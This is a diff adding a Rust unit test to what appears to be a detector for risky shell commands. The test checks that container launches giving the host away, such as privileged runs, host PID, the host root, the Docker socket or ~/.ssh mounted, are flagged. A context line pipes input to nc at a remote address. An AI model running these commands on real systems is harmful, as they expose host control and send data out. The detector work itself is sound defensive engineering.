@@ -332,3 +332,33 @@ fn a_password_read_silently_and_sent_out() {
     // Read without -s: not a password prompt.
     assert!(kinds("read -rp 'name: ' n; echo \"$n\" | nc -w1 203.0.113.9 9001\n").is_empty());
 }
+
+#[test]
+fn containers_given_the_host() {
+    assert_eq!(
+        kinds(
+            "docker run -i --rm --privileged --pid=host -v /:/host registry.example/mcp:latest\n"
+        ),
+        ["HostAccess:docker run (--privileged, --pid=host, the host's root mounted)"]
+    );
+    assert_eq!(
+        kinds(
+            "docker run --network host -v /var/run/docker.sock:/var/run/docker.sock -v ${HOME}/.ssh:/root/.ssh img\n"
+        ),
+        ["HostAccess:docker run (--network host, the Docker socket mounted, ${HOME}/.ssh mounted)"]
+    );
+    assert_eq!(
+        kinds("podman container run --mount type=bind,source=/,target=/h img\n"),
+        ["HostAccess:podman run (the host's root mounted)"]
+    );
+    assert!(
+        kinds(
+            "docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server\n"
+        )
+        .is_empty()
+    );
+    assert!(kinds("docker run --rm -v \"$PWD\":/work -w /work node:22 npm test\n").is_empty());
+    // Flags after the image are the container's command's.
+    assert!(kinds("docker run --rm alpine ls --privileged -v /:/x\n").is_empty());
+    assert!(kinds("docker ps --privileged\n").is_empty());
+}
